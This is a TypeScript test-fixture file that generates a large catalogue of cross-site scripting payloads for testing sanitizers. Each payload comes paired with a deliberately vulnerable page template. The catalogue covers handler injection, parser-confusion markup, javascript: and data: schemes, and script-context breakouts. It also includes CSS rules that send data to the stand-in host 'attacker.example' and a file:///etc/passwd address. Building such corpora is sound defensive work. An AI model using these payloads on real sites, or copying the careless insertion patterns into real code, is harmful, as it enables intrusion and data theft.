/**
 * Strings that run code, or reach for another host, if a page inserts them without care. They combine contexts to break out of with
 * payloads; each is proven to work by a page that is vulnerable in exactly that way (`careless`). The classes are those that sanitizers
 * defend against: handlers, loading elements, namespaces that are parsed again, encodings, schemes, styles.
 */
export interface AttackString {
  /** Also the argument of its call of `__ran`. */
  number: number
  name: string
  text: string
  /** Markup of a vulnerable page around the text. Undefined for strings that only outdated browsers run. */
  careless: ((text: string) => string) | undefined
  /**
   * How it is rendered: inserted into an element once, or again after it was parsed; parsed as a separate page; or followed as an address.
   */
  way: 'element' | 'twice' | 'page' | 'address'
}

/** The host that no request may reach. */
export const forbiddenHost = 'attacker.example'

interface Draft extends Omit<AttackString, 'number' | 'text'> {
  text: (code: string) => string
}

/** Contexts for markup: how the context ends, and the vulnerable way of filling it. */
const contexts: { name: string; end: string; careless: (text: string) => string; way?: AttackString['way'] }[] = [
  { name: 'text', end: '', careless: (text) => `<p>${text}</p>` },
  { name: 'an attribute in double quotes', end: '">', careless: (text) => `<input title="${text}">` },
  { name: 'an attribute in single quotes', end: "'>", careless: (text) => `<input title='${text}'>` },
  { name: 'an attribute without quotes', end: 'x >', careless: (text) => `<input title=${text}>` },
  { name: 'a text area', end: '</textarea>', careless: (text) => `<textarea>${text}</textarea>` },
  { name: 'a title', end: '</title>', careless: (text) => `<title>${text}</title>`, way: 'page' },
  { name: 'a style', end: '</style>', careless: (text) => `<style>p{color:${text}}</style>` },
  { name: 'a script', end: '</script>', careless: (text) => `<script>var a=1//${text}</script>`, way: 'page' },
  { name: 'a comment', end: '-->', careless: (text) => `<!-- ${text} -->` },
  { name: 'a list of options', end: '</option></select>', careless: (text) => `<select><option>${text}</select>` },
]

/** Payloads for these contexts. */
const vectors: Record<string, (code: string) => string> = {
  'a picture that is not there': (code) => `<img src=x: onerror=${code}>`,
  'a picture of a set': (code) => `<img srcset=x: onerror=${code}>`,
  'a drawing that is loaded': (code) => `<svg onload=${code}></svg>`,
  'a drawing with a slash for a blank': (code) => `<svg/onload=${code}></svg>`,
  'an animation that begins': (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s></svg>`,
  'a video without a source': (code) => `<video><source onerror=${code} src=x:></video>`,
  'a sound without a source': (code) => `<audio src=x: onerror=${code}></audio>`,
  'details that open': (code) => `<details open ontoggle=${code}></details>`,
  'a field that takes the focus': (code) => `<input type=text autofocus onfocus=${code}>`,
  'a frame with a page in it': (code) => `<iframe srcdoc="<img src=x: onerror=${code}>"></iframe>`,
  'a frame with a script for an address': (code) => `<iframe src=javascript:${code}></iframe>`,
  'a style that is loaded': (code) => `<style onload=${code}></style>`,
  'capitals and a tab': (code) => `<ImG\tSrC=x:\tOnErRoR=${code}>`,
  'lines between attributes': (code) => `<img\nsrc=x:\nonerror=\n${code}\n>`,
  'signs as numbers': (code) => `<img src=x: onerror="${asEntities(code)}">`,
  'signs without a semicolon': (code) => `<img src=x: onerror=${asEntities(code).replaceAll(';', '')}>`,
}

/** Markup that a first parser considers harmless and a second one does not, for text contexts. */
const tangles: Record<string, (code: string) => string> = {
  'a script in an empty comment': (code) => `<!--><img src=x: onerror=${code}>-->`,
  'a comment with a wrong end': (code) => `<!--x--!><img src=x: onerror=${code}>`,
  'no script that ends in a title': (code) =>
    `<noscript><p title="</noscript><img src=x: onerror=${code}>"></noscript>`,
  'a style in a drawing': (code) => `<svg></p><style><a id="</style><img src=x: onerror=${code}>">`,
  'two forms in a formula': (code) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=${code}>`,
  'a foreign element in a table': (code) => `<table><td><svg><desc><td></svg><img src=x: onerror=${code}>`,
  'a caption of a drawing': (code) => `<svg><title><img src=x: onerror=${code}></title></svg>`,
  'a foreign object': (code) => `<svg><foreignObject><img src=x: onerror=${code}></foreignObject></svg>`,
  'character data of another language': (code) => `<![CDATA[><img src=x: onerror=${code}>]]>`,
  'a template with a root': (code) => `<template></template><img src=x: onerror=${code}>`,
  'an unfinished element': (code) => `<img src=x: onerror=${code} `,
  'an attribute after an attribute': (code) => `<img src="x:"onerror=${code}>`,
  'a half closed quote': (code) => `<img """><img src=x: onerror=${code}>">`,
  'a sign of the end in an attribute': (code) => `<a title=">"><img src=x: onerror=${code}>`,
  'doubled brackets': (code) => `<<img src=x: onerror=${code}>`,
  'an element within the name of one': (code) => `<scr<script>ipt></script><img src=x: onerror=${code}>`,
  'a sign that is no sign': (code) => `<img src=x:\u0000 onerror=${code}>`,
  'a blank of another width': (code) => `<img\u000csrc=x:\u000conerror=${code}>`,
  'a picture by its old name': (code) => `<image src=x: onerror=${code}>`,
  'an animated address': (code) =>
    `<svg><a><set attributeName=href to=javascript:${code} begin=0s onbegin=${code} /></a></svg>`,
  'a sheet that is not there': (code) => `<link rel=stylesheet href=x: onerror=${code}>`,
  'a button of pictures': (code) => `<input type=image src=x: onerror=${code}>`,
}

/** Attributes that are added where a quote was left open. */
const attributes: Draft[] = [
  ['a handler of focus in double quotes', '" autofocus onfocus=', '"'],
  ['a handler of focus in single quotes', "' autofocus onfocus=", "'"],
  ['a handler of focus without quotes', 'x autofocus onfocus=', ''],
  ['a handler of a picture in double quotes', '" type=image src=x: onerror=', '"'],
  ['a handler of a picture in single quotes', "' type=image src=x: onerror=", "'"],
  ['a handler after a slash', '"/autofocus/onfocus=', '"'],
  ['a handler after a line', '"\nautofocus\nonfocus=', '"'],
].map(
  ([name = '', before = '', quote = '']): Draft => ({
    name,
    text: (code: string) => `${before}${code} x=${quote}`,
    careless: (text: string) => `<input value=${quote}${text}${quote}>`,
    way: 'element' as const,
  }),
)

/** Code that is inserted into code. */
const scripts: Draft[] = [
  ['the end of a text in single quotes', "';", ";'", "'"],
  ['the end of a text in double quotes', '";', ';"', '"'],
  ['the end of a text in back quotes', '`;', ';`', '`'],
  ['a value in a template', '${', '}', '`'],
  ['a sum with a text', "'+", "+'", "'"],
  ['a sum with a text in double quotes', '"-', '-"', '"'],
  ['a line after a comment', '\n', '//', '//'],
  ['a separator of lines after a comment', '\u2028', '//', '//'],
  ['the end of a comment', '*/;', ';/*', '/*'],
].map(([name = '', before = '', after = '', quote = '']) => ({
  name: `code: ${name}`,
  text: (code: string) => `${before}${code}${after}`,
  careless: (text: string) =>
    `<script>var a=${/[/]/.test(quote) ? `1${quote}` : quote}${text}${closing(quote)}</script>`,
  way: 'page' as const,
}))

/** Addresses with a scheme that runs something, or that lead to an unexpected host. */
const addresses: Draft[] = [
  ...Object.entries<(code: string) => string>({
    'the scheme of scripts': (code) => `javascript:${code}`,
    'the scheme in capitals and small letters': (code) => `JaVaScRiPt:${code}`,
    'a tab before the scheme': (code) => `\tjavascript:${code}`,
    'a line in the scheme': (code) => `java\nscript:${code}`,
    'a tab in the scheme': (code) => `java\tscript:${code}`,
    'a return before the colon': (code) => `javascript\r:${code}`,
    'a control sign before the scheme': (code) => `\u0001javascript:${code}`,
    'blanks before the scheme': (code) => `   javascript:${code}`,
    'a comment that looks like a host': (code) => `javascript://example.org/%0A${code}`,
    'a comment with a mail address': (code) => `javascript:/*mailto:a@example.org*/${code}`,
    'code in signs of percent': (code) => `javascript:${[...code].map((sign) => `%${hex(sign)}`).join('')}`,
    'code that looks like a secure address': (code) => `javascript:"https://example.org";${code}`,
    'a page as data': (code) => `data:text/html,<script>${code}</script>`,
    'a page as data in base 64': (code) => `data:text/html;base64,${btoa(`<script>${code}</script>`)}`,
    'a drawing as data': (code) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${code}"></svg>`,
    'a page of another language as data': (code) =>
      `data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">${code}</script>`,
  }).map(([name, text]): Draft => ({ name, text, careless: (address) => address, way: 'address' })),
  ...Object.entries<(code: string) => string>({
    'a host without a scheme': (code) => `//${forbiddenHost}/${code.replace(/\D/g, '')}`,
    'a host after backslashes': (code) => `\\\\${forbiddenHost}/${code.replace(/\D/g, '')}`,
    'a host after a slash and a backslash': (code) => `/\\${forbiddenHost}/${code.replace(/\D/g, '')}`,
    'a host after a tab': (code) => `/\t/${forbiddenHost}/${code.replace(/\D/g, '')}`,
  }).map(([name, text]): Draft => ({ name, text, careless: (address) => address, way: 'address' })),
  ...Object.entries<(code: string) => string>({
    'the scheme of another language': (code) => `vbscript:${code}`,
    'a part of the page': (code) => `blob:https://${forbiddenHost}/${code}`,
    'a file of the machine': (code) => `file:///etc/passwd?${code}`,
    'the source of a page': (code) => `view-source:javascript:${code}`,
    'the scheme in signs of markup': (code) => `javascript&colon;${code}`,
  }).map(([name, text]): Draft => ({ name, text, careless: undefined, way: 'address' })),
]

const inStyle = (text: string) => `<style>p{color:${text}}</style><input value=a><p>x</p>`
/** Without brackets, which end an address in a style. */
const stolen = (code: string) => `https://${forbiddenHost}/${code.replace(/\D/g, '')}`

/** Values that close what is around them, or that request something from another host. */
const styles: Draft[] = [
  ...Object.entries<(code: string) => string>({
    'a background of another host': (code) => `red;background:url(${stolen(code)})`,
    'a background in quotes': (code) => `red;background:url("${stolen(code)}")`,
    'a set of pictures': (code) => `red;background:image-set(url(${stolen(code)}) 1x)`,
    'a rule after a rule': (code) => `red}p{background:url(${stolen(code)})`,
    'what a field holds': (code) => `red}input[value^="a"]{background:url(${stolen(code)})`,
    'what a field holds, in single quotes': (code) => `red}input[value*='a']{background:url('${stolen(code)}')`,
    'a rule after a comment': (code) => `red/**/}p{background:url(${stolen(code)})}/*`,
    'a rule with signs as numbers': (code) => `red}p{\\62 ackground:url(${stolen(code)})`,
    'a rule for the whole host': (code) => `red}:host,:root,body{background:url(${stolen(code)})`,
    'a face of letters': (code) => `red}@font-face{font-family:x;src:url(${stolen(code)})}p{font-family:x`,
    'a cursor': (code) =>
      `red}:root{cursor:url(${stolen(code)}),auto;list-style:url(${stolen(code)});background:url(${stolen(code)})`,
    'a variable with an address': (code) => `red;--x:url(${stolen(code)});background:var(--x)`,
    'the end of the style': (code) => `red}</style><img src=x: onerror=${code}><style>`,
    'the end of the style and a drawing': (code) => `red;}</style><svg onload=${code}></svg>`,
  }).map(([name, text]): Draft => ({ name: `style: ${name}`, text, careless: inStyle, way: 'page' })),
  {
    name: 'style: another sheet',
    text: (code) => `@import "${stolen(code)}";`,
    careless: (text) => `<style>${text}</style>`,
    way: 'element',
  },
  {
    name: 'style: an attribute of style',
    text: (code) => `red;background:url(${stolen(code)})`,
    careless: (text) => `<p style="color:${text}">x</p>`,
    way: 'element',
  },
  ...Object.entries<(code: string) => string>({
    'an expression': (code) => `expression(${code})`,
    'an address that is a script': (code) => `url(javascript:${code})`,
    'a behaviour': (code) => `red;behavior:url(javascript:${code})`,
    'a binding': (code) => `red;-moz-binding:url(javascript:${code})`,
  }).map(([name, text]): Draft => ({ name: `style: ${name}`, text, careless: undefined, way: 'element' })),
]

/** Syntax of other template languages. */
const templates: Draft[] = Object.entries<(code: string) => string>({
  'a template in double braces': (code) => `{{constructor.constructor("${code}")()}}`,
  'a template with signs of percent': (code) => `<%= ${code} %>`,
  'an object of markup': (code) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x: onerror=${code}>"}}`,
  'the prototype': (code) => `__proto__[innerHTML]=<img src=x: onerror=${code}>`,
}).map(([name, text]) => ({ name, text, careless: undefined, way: 'element' }))

const outbreaks: Draft[] = contexts.flatMap(({ name, end, careless, way = 'element' }) =>
  Object.entries(vectors).map(([vector, text]) => ({
    name: `${name}: ${vector}`,
    text: (code: string) => `${end}${text(code)}`,
    careless,
    way,
  })),
)

const tangled: Draft[] = Object.entries(tangles).map(([name, text]) => ({
  name,
  text,
  careless: (markup) => `<div>${markup}</div>`,
  way: 'twice',
}))

/** All of them. `__ran` is a function that the checking page adds to every frame. */
export const attackStrings: readonly AttackString[] = [
  ...outbreaks,
  ...tangled,
  {
    name: 'a body of its own',
    text: (code) => `<body onload=${code}>`,
    careless: (text) => text,
    way: 'page',
  } satisfies Draft,
  ...attributes,
  ...scripts,
  ...addresses,
  ...styles,
  ...templates,
].map(({ text, ...draft }, number) => ({ ...draft, number, text: text(`__ran(${number})`) }))

function hex(sign: string): string {
  return sign.charCodeAt(0).toString(16).padStart(2, '0')
}

function asEntities(code: string): string {
  return [...code].map((sign) => `&#${sign.charCodeAt(0)};`).join('')
}

function closing(quote: string): string {
  if (quote === '/*') return '*/'
  return quote === '//' ? '' : quote
}
